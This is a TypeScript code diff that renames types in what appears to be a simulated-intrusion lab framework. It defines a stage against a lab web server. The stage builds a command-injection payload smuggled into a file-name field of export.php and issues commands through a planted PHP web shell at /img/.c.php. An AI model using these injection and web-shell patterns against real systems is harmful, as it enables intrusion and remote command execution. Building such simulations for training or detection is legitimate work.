@@ -1,11 +1,11 @@
 import { intrude, pause, probe, visit } from './requests';
-import type { Stage, StageAct } from './stage';
+import type { IntrusionStage, IntrusionAct } from './intrusion_stage';
 
 const SITE = 'http://10.20.0.12';
-const named = (command: string): StageAct =>
+const named = (command: string): IntrusionAct =>
   intrude('--data-urlencode', `name=x.tgz;${command};#`, `${SITE}/export.php`);
 /** As the clients of such shells send it: markers around what the command prints. */
-const evaluated = (command: string): StageAct =>
+const evaluated = (command: string): IntrusionAct =>
   intrude(
     '--data-urlencode',
     `c=system('echo 7f3a1c;${command.replaceAll("'", "\\'")};echo c09b2e');`,
@@ -13,11 +13,11 @@ const evaluated = (command: string): StageAct =>
   );
 
 /** By hand, through the same shell. */
-const typed = (command: string): StageAct =>
+const typed = (command: string): IntrusionAct =>
   intrude('--data-urlencode', `c=system('${command}');`, `${SITE}/img/.c.php`);
 
 /** The intranet, found from the first server: an export that hands its name to the shell, Apache with PHP in it. */
-export const web02: Stage = {
+export const web02: IntrusionStage = {
   hostName: 'web-02-apache',
   setUp: `
     for address in 10.20.0.11 10.20.0.12 10.20.0.31; do ip address add $address/32 dev lo; done
